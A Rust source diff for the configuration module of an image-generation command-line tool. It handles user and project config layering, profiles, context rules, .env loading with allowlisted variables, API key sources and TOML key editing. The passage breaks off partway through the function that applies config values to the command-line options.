@@ -0,0 +1,1169 @@
+use crate::cache::CacheKind;
+use crate::cli::Cli;
+use crate::error::{ImagoError, Result};
+use crate::image_handler::{Organize, PreviewAlign, PreviewBackend};
+use crate::logging::LogFormat;
+use crate::pricing::Price;
+use crate::report::OutputFormat;
+use clap::parser::ValueSource;
+use clap::{ArgMatches, ValueEnum};
+use serde::Deserialize;
+use std::collections::BTreeMap;
+use std::env;
+use std::ffi::OsStr;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// Project config file name, searched for from the working directory upwards
+pub const PROJECT_FILE: &str = ".imago.toml";
+/// Environment file loaded from the working directory unless `--no-dotenv`
+pub const DOTENV_FILE: &str = ".env";
+
+/// Keys a project `.imago.toml` may set, at the top level or in its profiles
+/// and rules. A project file arrives with whatever repository was cloned, so
+/// anything that runs commands, reads secrets or changes where requests and
+/// logs go is left to the user config.
+const PROJECT_KEYS: &[&str] = &[
+    "provider",
+    "model",
+    "output",
+    "size",
+    "quality",
+    "style",
+    "cfg-scale",
+    "negative-prompt",
+    "width",
+    "height",
+    "no-preview",
+    "preview-backend",
+    "preview-align",
+    "preview-pad",
+    "preview-frame",
+    "auto-suffix",
+    "numbered",
+    "organize",
+    "name-template",
+    "manifest",
+    "no-latest",
+];
+
+/// Defaults loaded from `~/.config/imago/config.toml`
+///
+/// Every key mirrors the long flag of the same name; flags given on the
+/// command line always win over the file. A project `.imago.toml` uses the
+/// same keys and is layered over the user config. `[profile.<name>]` tables
+/// hold the same keys and are layered on top when selected with `--profile`,
+/// and `[[rule]]` tables layer theirs on top of that when their context matches.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
+pub struct Config {
+    pub default_profile: Option<String>,
+    pub profile: BTreeMap<String, Config>,
+    pub rule: Vec<Rule>,
+    /// Per-model price overrides for cost estimates, keyed by model ID
+    pub pricing: BTreeMap<String, Price>,
+    /// Monthly spending limit in USD, checked against the usage ledger
+    pub budget: Option<f64>,
+    pub api_key_env: Option<String>,
+    pub api_key_command: Option<String>,
+    pub api_key_file: Option<PathBuf>,
+    /// Keys tried in order when one is rate limited
+    pub api_keys: Option<Vec<String>>,
+    pub provider: Option<String>,
+    pub model: Option<String>,
+    pub deployment: Option<String>,
+    pub output: Option<PathBuf>,
+    pub size: Option<String>,
+    pub count: Option<u32>,
+    pub jobs: Option<u32>,
+    pub rpm: Option<u32>,
+    pub max_failures: Option<u32>,
+    pub cooldown: Option<u64>,
+    pub timeout: Option<u64>,
+    pub connect_timeout: Option<u64>,
+    pub max_response_size: Option<u64>,
+    pub proxy: Option<String>,
+    pub ca_cert: Option<PathBuf>,
+    pub headers: Option<Vec<String>>,
+    pub retries: Option<u32>,
+    pub retry_delay: Option<f64>,
+    pub quality: Option<String>,
+    pub style: Option<String>,
+    pub cfg_scale: Option<f32>,
+    pub negative_prompt: Option<String>,
+    pub width: Option<u32>,
+    pub height: Option<u32>,
+    pub no_preview: Option<bool>,
+    pub preview_backend: Option<String>,
+    pub preview_align: Option<String>,
+    pub preview_pad: Option<u32>,
+    pub preview_frame: Option<bool>,
+    pub force_preview: Option<bool>,
+    pub low_bandwidth: Option<bool>,
+    pub no_color: Option<bool>,
+    pub a11y: Option<bool>,
+    pub manifest: Option<bool>,
+    pub sign_manifest: Option<bool>,
+    pub signing_key: Option<String>,
+    pub verbose: Option<bool>,
+    pub quiet: Option<bool>,
+    pub no_history: Option<bool>,
+    pub no_latest: Option<bool>,
+    pub show_cost: Option<bool>,
+    pub auto_suffix: Option<bool>,
+    pub numbered: Option<bool>,
+    pub organize: Option<String>,
+    pub name_template: Option<String>,
+    pub pipe_to: Option<String>,
+    pub output_format: Option<String>,
+    pub log_format: Option<String>,
+    pub cache_backend: Option<String>,
+    pub cache_ttl: Option<String>,
+    pub redis_url: Option<String>,
+    pub prompt_log: Option<PathBuf>,
+    pub log_file: Option<PathBuf>,
+}
+
+/// Defaults applied automatically when the invocation context matches
+///
+/// Every condition given must hold: `path` is a glob over the working
+/// directory (`*` within a path segment, `**` across them), `git-remote` a
+/// glob over the `origin` URL, and `profile` the selected profile name.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
+pub struct Rule {
+    pub path: Option<String>,
+    pub git_remote: Option<String>,
+    pub profile: Option<String>,
+    /// Config keys to apply, e.g. `style` or `output`
+    pub set: toml::Table,
+}
+
+impl Rule {
+    fn matches(&self, cwd: Option<&Path>, remote: Option<&str>, profile: Option<&str>) -> bool {
+        let path_ok = self.path.as_deref().is_none_or(|pattern| {
+            let pattern = expand_home(Path::new(pattern)).display().to_string();
+            cwd.map(|cwd| cwd.display().to_string()).is_some_and(|cwd| {
+                glob_match(&pattern, &cwd, false)
+                    || pattern
+                        .strip_suffix("/**")
+                        .is_some_and(|base| glob_match(base, &cwd, false))
+            })
+        });
+        let remote_ok = self
+            .git_remote
+            .as_deref()
+            .is_none_or(|pattern| remote.is_some_and(|remote| glob_match(pattern, remote, true)));
+        let profile_ok = self
+            .profile
+            .as_deref()
+            .is_none_or(|name| profile == Some(name));
+        path_ok && remote_ok && profile_ok
+    }
+
+    /// The conditions, for verbose output
+    fn describe(&self) -> String {
+        let conditions: Vec<String> = [
+            ("path", &self.path),
+            ("git-remote", &self.git_remote),
+            ("profile", &self.profile),
+        ]
+        .into_iter()
+        .filter_map(|(key, value)| value.as_ref().map(|v| format!("{} {}", key, v)))
+        .collect();
+        conditions.join(", ")
+    }
+}
+
+/// Shell-style glob: `?` is one character, `*` any run of characters that
+/// stays within a path segment unless `cross_segments`, `**` any run at all
+fn glob_match(pattern: &str, text: &str, cross_segments: bool) -> bool {
+    fn go(p: &[char], t: &[char], cross: bool) -> bool {
+        match p {
+            [] => t.is_empty(),
+            ['*', '*', rest @ ..] => (0..=t.len()).any(|i| go(rest, &t[i..], cross)),
+            ['*', rest @ ..] => (0..=t.len())
+                .take_while(|&i| cross || i == 0 || t[i - 1] != '/')
+                .any(|i| go(rest, &t[i..], cross)),
+            ['?', rest @ ..] => {
+                t.first().is_some_and(|&c| cross || c != '/') && go(rest, &t[1..], cross)
+            }
+            [c, rest @ ..] => t.first() == Some(c) && go(rest, &t[1..], cross),
+        }
+    }
+
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    go(&pattern, &text, cross_segments)
+}
+
+/// URL of the `origin` remote of the repository containing `dir`
+fn git_remote(dir: &Path) -> Option<String> {
+    let output = Command::new("git")
+        .args(["config", "--get", "remote.origin.url"])
+        .current_dir(dir)
+        .output()
+        .ok()?;
+    let url = String::from_utf8_lossy(&output.stdout).trim().to_string();
+    (output.status.success() && !url.is_empty()).then_some(url)
+}
+
+/// Where to read the API key from when `--api-key` is not given
+#[derive(Debug, Clone)]
+pub enum KeySource {
+    /// A custom environment variable
+    Env(String),
+    /// A shell command printing the key (e.g. `pass show imago/work`)
+    Command(String),
+    /// A file holding the key, such as a mounted secret
+    File(PathBuf),
+    /// Keys listed in the config file
+    Keys(Vec<String>),
+}
+
+impl KeySource {
+    /// Read the key
+    pub fn resolve(&self) -> Result<String> {
+        match self {
+            KeySource::Env(name) => env::var(name).map_err(|_| {
+                ImagoError::ConfigError(format!("API key variable {} is not set", name))
+            }),
+            KeySource::Command(command) => {
+                let output = shell(command).output().map_err(|e| {
+                    ImagoError::ConfigError(format!("Failed to run '{}': {}", command, e))
+                })?;
+                let key = String::from_utf8_lossy(&output.stdout).trim().to_string();
+                if !output.status.success() || key.is_empty() {
+                    return Err(ImagoError::ConfigError(format!(
+                        "API key command '{}' did not print a key",
+                        command
+                    )));
+                }
+                Ok(key)
+            }
+            KeySource::File(path) => {
+                if readable_by_others(path) {
+                    return Err(ImagoError::ConfigError(format!(
+                        "Refusing to read {}: it is readable by other users (run chmod 600 on it)",
+                        path.display()
+                    )));
+                }
+                let key = fs::read_to_string(path)
+                    .map_err(|e| {
+                        ImagoError::ConfigError(format!(
+                            "Failed to read API key file {}: {}",
+                            path.display(),
+                            e
+                        ))
+                    })?
+                    .trim()
+                    .to_string();
+                if key.is_empty() {
+                    return Err(ImagoError::ConfigError(format!(
+                        "API key file {} is empty",
+                        path.display()
+                    )));
+                }
+                Ok(key)
+            }
+            KeySource::Keys(keys) => Ok(keys.join(",")),
+        }
+    }
+}
+
+#[cfg(unix)]
+fn readable_by_others(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    fs::metadata(path).is_ok_and(|meta| meta.permissions().mode() & 0o004 != 0)
+}
+
+#[cfg(not(unix))]
+fn readable_by_others(_path: &Path) -> bool {
+    false
+}
+
+#[cfg(unix)]
+fn shell(command: &str) -> Command {
+    let mut cmd = Command::new("sh");
+    cmd.arg("-c").arg(command);
+    cmd
+}
+
+#[cfg(not(unix))]
+fn shell(command: &str) -> Command {
+    let mut cmd = Command::new("cmd");
+    cmd.arg("/C").arg(command);
+    cmd
+}
+
+/// Default config file location, honoring `XDG_CONFIG_HOME`
+pub fn default_path() -> Option<PathBuf> {
+    let base = env::var_os("XDG_CONFIG_HOME")
+        .filter(|dir| !dir.is_empty())
+        .map(PathBuf::from)
+        .or_else(|| dirs::home_dir().map(|home| home.join(".config")))?;
+    Some(base.join("imago").join("config.toml"))
+}
+
+/// Nearest `.imago.toml` in `start` or one of its ancestors
+pub fn find_project(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_FILE))
+        .find(|path| path.is_file())
+}
+
+/// Load the user config file with the project config layered on top
+///
+/// A missing default file simply means no defaults; a missing file passed
+/// with `--config` is an error.
+pub fn load(explicit: Option<&Path>) -> Result<Config> {
+    let user = match explicit {
+        Some(path) => read(path)?,
+        None => match default_path() {
+            Some(path) if path.exists() => read(&path)?,
+            _ => Config::default(),
+        },
+    };
+
+    let project = env::current_dir()
+        .ok()
+        .and_then(|cwd| find_project(&cwd))
+        .map(|path| {
+            let root = path.parent().map(Path::to_path_buf).unwrap_or_default();
+            read_project(&path).map(|config| config.relative_to(&root))
+        })
+        .transpose()?;
+
+    Ok(match project {
+        Some(project) => user.overlay(project),
+        None => user,
+    })
+}
+
+fn read(path: &Path) -> Result<Config> {
+    let text = fs::read_to_string(path).map_err(|e| {
+        ImagoError::ConfigError(format!("Failed to read {}: {}", path.display(), e))
+    })?;
+    toml::from_str(&text)
+        .map_err(|e| ImagoError::ConfigError(format!("Invalid {}: {}", path.display(), e)))
+}
+
+/// Read a project file, refusing keys outside [`PROJECT_KEYS`]
+fn read_project(path: &Path) -> Result<Config> {
+    let table = read_table(path)?;
+    check_project(path, &table)?;
+    toml::Value::Table(table)
+        .try_into()
+        .map_err(|e: toml::de::Error| {
+            ImagoError::ConfigError(format!("Invalid {}: {}", path.display(), e.message()))
+        })
+}
+
+fn check_project(path: &Path, table: &toml::Table) -> Result<()> {
+    fn check(path: &Path, prefix: &str, table: &toml::Table) -> Result<()> {
+        match table
+            .keys()
+            .find(|key| !PROJECT_KEYS.contains(&key.as_str()))
+        {
+            Some(key) => Err(ImagoError::ConfigError(format!(
+                "{} cannot set {}{}; a project file may only set {}. \
+                 Move it to the user config instead",
+                path.display(),
+                prefix,
+                key,
+                PROJECT_KEYS.join(", ")
+            ))),
+            None => Ok(()),
+        }
+    }
+
+    let mut settings = table.clone();
+    settings.remove("default-profile");
+    if let Some(toml::Value::Table(profiles)) = settings.remove("profile") {
+        for (name, profile) in &profiles {
+            if let toml::Value::Table(profile) = profile {
+                check(path, &format!("profile.{}.", name), profile)?;
+            }
+        }
+    }
+    if let Some(toml::Value::Array(rules)) = settings.remove("rule") {
+        for rule in &rules {
+            if let Some(toml::Value::Table(set)) = rule.get("set") {
+                check(path, "rule.set.", set)?;
+            }
+        }
+    }
+    check(path, "", &settings)
+}
+
+/// Provider credentials and settings a `.env` file may provide
+const DOTENV_PROVIDER_VARS: &[&str] = &[
+    "GEMINI_API_KEY",
+    "OPENAI_API_KEY",
+    "STABILITY_API_KEY",
+    "REPLICATE_API_TOKEN",
+    "FAL_KEY",
+    "AZURE_OPENAI_API_KEY",
+    "AZURE_OPENAI_API_VERSION",
+    "AWS_ACCESS_KEY_ID",
+    "AWS_SECRET_ACCESS_KEY",
+    "AWS_SESSION_TOKEN",
+    "AWS_REGION",
+    "AWS_DEFAULT_REGION",
+];
+
+/// Whether `.env` may set `name`: provider keys, and the `IMAGO_*` variables
+/// of the options a project file may set
+fn dotenv_allowed(name: &str) -> bool {
+    if DOTENV_PROVIDER_VARS.contains(&name) {
+        return true;
+    }
+    name.strip_prefix("IMAGO_").is_some_and(|option| {
+        PROJECT_KEYS.iter().any(|key| {
+            let var = match *key {
+                "output" => "OUTPUT_DIR".to_string(),
+                key => key.to_uppercase().replace('-', "_"),
+            };
+            var == option
+        })
+    })
+}
+
+/// Load `.env` from the working directory into the environment, returning
+/// the names of the variables it is not trusted to set
+///
+/// Variables already set in the environment win, so a shell export always
+/// overrides the project file. A missing file is not an error. Like a project
+/// `.imago.toml`, the file comes with the checkout, so anything that could run
+/// commands or redirect requests is skipped. `AZURE_OPENAI_ENDPOINT` is only
+/// taken along with a key from the same file, so it cannot send the shell's
+/// key elsewhere.
+pub fn load_dotenv() -> Result<Vec<String>> {
+    let invalid =
+        |e: dotenvy::Error| ImagoError::ConfigError(format!("Invalid {}: {}", DOTENV_FILE, e));
+    let vars = match dotenvy::from_path_iter(DOTENV_FILE) {
+        Ok(iter) => iter
+            .collect::<std::result::Result<Vec<_>, _>>()
+            .map_err(invalid)?,
+        Err(dotenvy::Error::Io(e)) if e.kind() == std::io::ErrorKind::NotFound => {
+            return Ok(Vec::new())
+        }
+        Err(e) => return Err(invalid(e)),
+    };
+
+    let unset = |name: &str| env::var_os(name).is_none();
+    let own_azure_key = vars
+        .iter()
+        .any(|(name, _)| name == "AZURE_OPENAI_API_KEY" && unset(name));
+    let mut ignored = Vec::new();
+    for (name, value) in vars {
+        let allowed = dotenv_allowed(&name) || (name == "AZURE_OPENAI_ENDPOINT" && own_azure_key);
+        if !allowed {
+            ignored.push(name);
+        } else if unset(&name) {
+            env::set_var(name, value);
+        }
+    }
+    Ok(ignored)
+}
+
+/// File edited by `imago config`: `--config`, the nearest project file with
+/// `--project` (created in the working directory if none), or the user config
+pub fn target_path(explicit: Option<&Path>, project: bool) -> Result<PathBuf> {
+    if let Some(path) = explicit {
+        return Ok(path.to_path_buf());
+    }
+    if project {
+        let cwd = env::current_dir()?;
+        return Ok(find_project(&cwd).unwrap_or_else(|| cwd.join(PROJECT_FILE)));
+    }
+    default_path()
+        .ok_or_else(|| ImagoError::ConfigError("No config directory available".to_string()))
+}
+
+/// Read a dotted key such as `model` or `profile.work.output`
+pub fn get(path: &Path, key: &str) -> Result<Option<String>> {
+    let table = read_table(path)?;
+    let mut value = None;
+    let mut current = Some(&table);
+    for part in split_key(key)? {
+        value = current.and_then(|t| t.get(&part));
+        current = value.and_then(toml::Value::as_table);
+    }
+    Ok(value.map(display_value))
+}
+
+/// Every key in the file as `(dotted key, value)`, sorted by key
+pub fn list(path: &Path) -> Result<Vec<(String, String)>> {
+    fn flatten(prefix: &str, table: &toml::Table, out: &mut Vec<(String, String)>) {
+        for (key, value) in table {
+            let key = if key.contains('.') {
+                format!("\"{}\"", key)
+            } else {
+                key.clone()
+            };
+            let key = if prefix.is_empty() {
+                key
+            } else {
+                format!("{}.{}", prefix, key)
+            };
+            match value {
+                toml::Value::Table(table) => flatten(&key, table, out),
+                value => out.push((key, display_value(value))),
+            }
+        }
+    }
+
+    let mut out = Vec::new();
+    flatten("", &read_table(path)?, &mut out);
+    Ok(out)
+}
+
+/// Set a dotted key, keeping the rest of the file (comments included) intact
+pub fn set(path: &Path, key: &str, value: &str) -> Result<()> {
+    edit(path, key, |table, leaf| {
+        table.insert(leaf, toml_edit::value(typed_value(leaf, value)?));
+        Ok(())
+    })
+}
+
+/// Remove a dotted key
+pub fn unset(path: &Path, key: &str) -> Result<()> {
+    edit(path, key, |table, leaf| match table.remove(leaf) {
+        Some(_) => Ok(()),
+        None => Err(ImagoError::ConfigError(format!("{} is not set", key))),
+    })
+}
+
+fn edit<F>(path: &Path, key: &str, apply: F) -> Result<()>
+where
+    F: FnOnce(&mut toml_edit::Table, &str) -> Result<()>,
+{
+    let text = match fs::read_to_string(path) {
+        Ok(text) => text,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(e.into()),
+    };
+    let mut doc: toml_edit::DocumentMut = text
+        .parse()
+        .map_err(|e| ImagoError::ConfigError(format!("Invalid {}: {}", path.display(), e)))?;
+
+    let parts = split_key(key)?;
+    let (leaf, parents) = parts
+        .split_last()
+        .filter(|(leaf, _)| !leaf.is_empty())
+        .ok_or_else(|| ImagoError::ConfigError(format!("Invalid key '{}'", key)))?;
+
+    let mut table = doc.as_table_mut();
+    for part in parents {
+        let item = table.entry(part.as_str()).or_insert_with(|| {
+            let mut new_table = toml_edit::Table::new();
+            new_table.set_implicit(true);
+            toml_edit::Item::Table(new_table)
+        });
+        table = item
+            .as_table_mut()
+            .ok_or_else(|| ImagoError::ConfigError(format!("{} is not a table", part)))?;
+    }
+    apply(table, leaf)?;
+
+    // Refuse to write anything imago itself would reject on the next run
+    let text = doc.to_string();
+    toml::from_str::<Config>(&text)
+        .map_err(|e| ImagoError::ConfigError(format!("Cannot set {}: {}", key, e.message())))?;
+    if path.file_name() == Some(OsStr::new(PROJECT_FILE)) {
+        let table = toml::from_str(&text)
+            .map_err(|e| ImagoError::ConfigError(format!("Cannot set {}: {}", key, e.message())))?;
+        check_project(path, &table)?;
+    }
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    fs::write(path, text)?;
+    Ok(())
+}
+
+/// Split a dotted key; segments containing dots are double-quoted, as in
+/// `pricing."gemini-2.5-flash-image".per-image`
+fn split_key(key: &str) -> Result<Vec<String>> {
+    let mut parts = Vec::new();
+    let mut part = String::new();
+    let mut quoted = false;
+    for c in key.chars() {
+        match c {
+            '"' => quoted = !quoted,
+            '.' if !quoted => parts.push(std::mem::take(&mut part)),
+            c => part.push(c),
+        }
+    }
+    parts.push(part);
+    if quoted || parts.iter().any(String::is_empty) {
+        return Err(ImagoError::ConfigError(format!("Invalid key '{}'", key)));
+    }
+    Ok(parts)
+}
+
+/// Interpret a command-line value with the type its key expects
+fn typed_value(key: &str, value: &str) -> Result<toml_edit::Value> {
+    let invalid =
+        |kind: &str| ImagoError::ConfigError(format!("{} expects {}, got '{}'", key, kind, value));
+    Ok(match key {
+        "count" | "jobs" | "rpm" | "width" | "height" | "timeout" | "connect-timeout"
+        | "max-response-size" | "retries" | "max-failures" | "cooldown" | "preview-pad" => value
+            .parse::<i64>()
+            .map_err(|_| invalid("a whole number"))?
+            .into(),
+        "cfg-scale" | "retry-delay" | "budget" | "per-image" | "input-per-million"
+        | "output-per-million" => value
+            .parse::<f64>()
+            .map_err(|_| invalid("a number"))?
+            .into(),
+        "no-preview" | "preview-frame" | "force-preview" | "low-bandwidth" | "no-color"
+        | "a11y" | "manifest" | "sign-manifest" | "verbose" | "quiet" | "show-cost"
+        | "no-history" | "no-latest" | "auto-suffix" | "numbered" => value
+            .parse::<bool>()
+            .map_err(|_| invalid("true or false"))?
+            .into(),
+        "api-keys" => toml_edit::Value::Array(value.split(',').map(str::trim).collect()),
+        _ => value.into(),
+    })
+}
+
+fn read_table(path: &Path) -> Result<toml::Table> {
+    match fs::read_to_string(path) {
+        Ok(text) => toml::from_str(&text)
+            .map_err(|e| ImagoError::ConfigError(format!("Invalid {}: {}", path.display(), e))),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(toml::Table::new()),
+        Err(e) => Err(e.into()),
+    }
+}
+
+/// Strings without quotes, everything else in TOML syntax
+fn display_value(value: &toml::Value) -> String {
+    match value {
+        toml::Value::String(s) => s.clone(),
+        other => other.to_string(),
+    }
+}
+
+impl Config {
+    /// Resolve relative paths against the directory holding the config file,
+    /// so project settings work from any subdirectory
+    fn relative_to(mut self, root: &Path) -> Config {
+        let rebase = |path: PathBuf| {
+            let path = expand_home(&path);
+            if path.is_relative() {
+                root.join(path)
+            } else {
+                path
+            }
+        };
+        self.output = self.output.map(rebase);
+        self.prompt_log = self.prompt_log.map(rebase);
+        self.log_file = self.log_file.map(rebase);
+        self.api_key_file = self.api_key_file.map(rebase);
+        self.ca_cert = self.ca_cert.map(rebase);
+        for profile in self.profile.values_mut() {
+            profile.output = profile.output.take().map(rebase);
+            profile.prompt_log = profile.prompt_log.take().map(rebase);
+            profile.log_file = profile.log_file.take().map(rebase);
+            profile.api_key_file = profile.api_key_file.take().map(rebase);
+            profile.ca_cert = profile.ca_cert.take().map(rebase);
+        }
+        for rule in &mut self.rule {
+            for key in [
+                "output",
+                "prompt-log",
+                "log-file",
+                "api-key-file",
+                "ca-cert",
+            ] {
+                if let Some(toml::Value::String(path)) = rule.set.get_mut(key) {
+                    *path = rebase(PathBuf::from(&*path)).display().to_string();
+                }
+            }
+        }
+        self
+    }
+
+    /// Layer `other` (a project config or profile) on top of these settings
+    fn overlay(mut self, other: Config) -> Config {
+        self.profile.extend(other.profile);
+        self.rule.extend(other.rule);
+        self.pricing.extend(other.pricing);
+        Config {
+            default_profile: other.default_profile.or(self.default_profile),
+            profile: self.profile,
+            rule: self.rule,
+            pricing: self.pricing,
+            budget: other.budget.or(self.budget),
+            api_key_env: other.api_key_env.or(self.api_key_env),
+            api_key_command: other.api_key_command.or(self.api_key_command),
+            api_key_file: other.api_key_file.or(self.api_key_file),
+            api_keys: other.api_keys.or(self.api_keys),
+            provider: other.provider.or(self.provider),
+            model: other.model.or(self.model),
+            deployment: other.deployment.or(self.deployment),
+            output: other.output.or(self.output),
+            size: other.size.or(self.size),
+            count: other.count.or(self.count),
+            jobs: other.jobs.or(self.jobs),
+            rpm: other.rpm.or(self.rpm),
+            max_failures: other.max_failures.or(self.max_failures),
+            cooldown: other.cooldown.or(self.cooldown),
+            timeout: other.timeout.or(self.timeout),
+            connect_timeout: other.connect_timeout.or(self.connect_timeout),
+            max_response_size: other.max_response_size.or(self.max_response_size),
+            proxy: other.proxy.or(self.proxy),
+            ca_cert: other.ca_cert.or(self.ca_cert),
+            headers: other.headers.or(self.headers),
+            retries: other.retries.or(self.retries),
+            retry_delay: other.retry_delay.or(self.retry_delay),
+            quality: other.quality.or(self.quality),
+            style: other.style.or(self.style),
+            cfg_scale: other.cfg_scale.or(self.cfg_scale),
+            negative_prompt: other.negative_prompt.or(self.negative_prompt),
+            width: other.width.or(self.width),
+            height: other.height.or(self.height),
+            no_preview: other.no_preview.or(self.no_preview),
+            preview_backend: other.preview_backend.or(self.preview_backend),
+            preview_align: other.preview_align.or(self.preview_align),
+            preview_pad: other.preview_pad.or(self.preview_pad),
+            preview_frame: other.preview_frame.or(self.preview_frame),
+            force_preview: other.force_preview.or(self.force_preview),
+            low_bandwidth: other.low_bandwidth.or(self.low_bandwidth),
+            no_color: other.no_color.or(self.no_color),
+            a11y: other.a11y.or(self.a11y),
+            manifest: other.manifest.or(self.manifest),
+            sign_manifest: other.sign_manifest.or(self.sign_manifest),
+            signing_key: other.signing_key.or(self.signing_key),
+            verbose: other.verbose.or(self.verbose),
+            quiet: other.quiet.or(self.quiet),
+            show_cost: other.show_cost.or(self.show_cost),
+            auto_suffix: other.auto_suffix.or(self.auto_suffix),
+            numbered: other.numbered.or(self.numbered),
+            no_history: other.no_history.or(self.no_history),
+            no_latest: other.no_latest.or(self.no_latest),
+            organize: other.organize.or(self.organize),
+            name_template: other.name_template.or(self.name_template),
+            pipe_to: other.pipe_to.or(self.pipe_to),
+            output_format: other.output_format.or(self.output_format),
+            log_format: other.log_format.or(self.log_format),
+            cache_backend: other.cache_backend.or(self.cache_backend),
+            cache_ttl: other.cache_ttl.or(self.cache_ttl),
+            redis_url: other.redis_url.or(self.redis_url),
+            prompt_log: other.prompt_log.or(self.prompt_log),
+            log_file: other.log_file.or(self.log_file),
+        }
+    }
+
+    /// Settings with the selected profile (`--profile`, else `default-profile`) applied
+    fn resolve_profile(mut self, selected: Option<&str>) -> Result<Config> {
+        let name = match selected.map(str::to_string).or(self.default_profile.take()) {
+            Some(name) => name,
+            None => return Ok(self),
+        };
+
+        let profile = self.profile.remove(&name).ok_or_else(|| {
+            let known: Vec<&str> = self.profile.keys().map(String::as_str).collect();
+            ImagoError::ConfigError(format!(
+                "Unknown profile '{}' (available: {})",
+                name,
+                if known.is_empty() {
+                    "none".to_string()
+                } else {
+                    known.join(", ")
+                }
+            ))
+        })?;
+        if !profile.profile.is_empty() || profile.default_profile.is_some() {
+            return Err(ImagoError::ConfigError(format!(
+                "Profile '{}' cannot define nested profiles",
+                name
+            )));
+        }
+        if !profile.rule.is_empty() {
+            return Err(ImagoError::ConfigError(format!(
+                "Profile '{}' cannot define rules; add a profile condition to a top-level [[rule]]",
+                name
+            )));
+        }
+
+        Ok(self.overlay(profile))
+    }
+
+    /// Layer the settings of every matching rule, in file order, returning a
+    /// note per applied rule
+    fn apply_rules(mut self, profile: Option<&str>) -> Result<(Config, Vec<String>)> {
+        let rules = std::mem::take(&mut self.rule);
+        if rules.is_empty() {
+            return Ok((self, Vec::new()));
+        }
+
+        let cwd = env::current_dir().ok();
+        let remote = rules
+            .iter()
+            .any(|rule| rule.git_remote.is_some())
+            .then(|| cwd.as_deref().and_then(git_remote))
+            .flatten();
+
+        let mut config = self;
+        let mut notes = Vec::new();
+        for (i, rule) in rules.into_iter().enumerate() {
+            let number = i + 1;
+            if rule.path.is_none() && rule.git_remote.is_none() && rule.profile.is_none() {
+                return Err(ImagoError::ConfigError(format!(
+                    "Rule {} needs a path, git-remote or profile condition",
+                    number
+                )));
+            }
+            if !rule.matches(cwd.as_deref(), remote.as_deref(), profile) {
+                continue;
+            }
+
+            let keys: Vec<String> = rule.set.keys().cloned().collect();
+            let settings: Config =
+                toml::Value::Table(rule.set.clone())
+                    .try_into()
+                    .map_err(|e: toml::de::Error| {
+                        ImagoError::ConfigError(format!("Rule {}: {}", number, e.message()))
+                    })?;
+            if !settings.profile.is_empty()
+                || settings.default_profile.is_some()
+                || !settings.rule.is_empty()
+            {
+                return Err(ImagoError::ConfigError(format!(
+                    "Rule {} can only set options, not profiles or rules",
+                    number
+                )));
+            }
+
+            notes.push(format!(
+                "Applied rule {} ({}): {}",
+                number,
+                rule.describe(),
+                keys.join(", ")
+            ));
+            config = config.overlay(settings);
+        }
+        Ok((config, notes))
+    }
+
+    /// Fill in every option the user did not pass explicitly
+    pub fn apply(self, cli: &mut Cli, matches: &ArgMatches) -> Result<()> {
+        let profile = cli.profile.clone().or_else(|| self.default_profile.clone());
+        let (config, notes) = self
+            .resolve_profile(cli.profile.as_deref())?
+            .apply_rules(profile.as_deref())?;
+        cli.applied_rules = notes;
+
+        // Anything not typed on the command line (or set via the environment)
+        // is still at its built-in default and may be replaced
+        let unset = |id: &str| {
+            matches!(
+                matches.value_source(id),
+                None | Some(ValueSource::DefaultValue)
+            )
+        };
+
+        if unset("api_key") {
+            cli.key_source = match (
+                config.api_key_command,
+                config.api_key_file,
+                config.api_keys,
+                config.api_key_env,
+            ) {
+                (Some(command), _, _, _) => Some(KeySource::Command(command)),
+                (None, Some(file), _, _) => Some(KeySource::File(expand_home(&file))),
+                (None, None, Some(keys), _) => Some(KeySource::Keys(keys)),
+                (None, None, None, Some(name)) => Some(KeySource::Env(name)),
+                (None, None, None, None) => None,
+            };
+        }
+
+        if let Some(provider) = config.provider.filter(|_| unset("provider")) {
+            cli.provider = provider
+                .parse()
+                .map_err(|e| ImagoError::ConfigError(format!("provider: {}", e)))?;
+        }
+        if let Some(organize) = config.organize.filter(|_| unset("organize")) {
+            cli.organize = Some(
+                Organize::from_str(&organize, true)
+                    .map_err(|e| ImagoError::ConfigError(format!("organize: {}", e)))?,
+            );
+        }
+        if let Some(backend) = config.preview_backend.filter(|_| unset("preview_backend")) {
+            cli.preview_backend = Some(
+                PreviewBackend::from_str(&backend, true)
+                    .map_err(|e| ImagoError::ConfigError(format!("preview-backend: {}", e)))?,
+            );
+        }
+        if let Some(align) = config.preview_align.filter(|_| unset("preview_align")) {
+            cli.preview_align = Some(
+                PreviewAlign::from_str(&align, true)
+                    .map_err(|e| ImagoError::ConfigError(format!("preview-align: {}", e)))?,
+            );
+        }
+        if let Some(pad) = config.preview_pad.filter(|_| unset("preview_pad")) {
+            cli.preview_pad = pad;
+        }
+        if let Some(frame) = config.preview_frame.filter(|_| unset("preview_frame")) {
+            cli.preview_frame = frame;
+        }
+        if let Some(force) = config.force_preview.filter(|_| unset("force_preview")) {
+            cli.force_preview = force;
+        }
+        if let Some(output_format) = config.output_format.filter(|_| unset("output_format")) {
+            cli.output_format = OutputFormat::from_str(&output_format, true)
+                .map_err(|e| ImagoError::ConfigError(format!("output-format: {}", e)))?;
+        }
+        if let Some(log_format) = config.log_format.filter(|_| unset("log_format")) {
+            cli.log_format = LogFormat::from_str(&log_format, true)
+                .map_err(|e| ImagoError::ConfigError(format!("log-format: {}", e)))?;
+        }
+        if let Some(cache_backend) = config.cache_backend.filter(|_| unset("cache_backend")) {
+            cli.cache_backend = Some(
+                CacheKind::from_str(&cache_backend, true)
+                    .map_err(|e| ImagoError::ConfigError(format!("cache-backend: {}", e)))?,
+            );
+        }
+
+        if unset("model") {
+            cli.model = config.model.or(cli.model.take());
+        }
+        if unset("deployment") {
+            cli.deployment = config.deployment.or(cli.deployment.take());
+        }
+        if let Some(output) = config.output.filter(|_| unset("output")) {
+            cli.output = vec![expand_home(&output)];
+        }
+        if unset("name_template") {
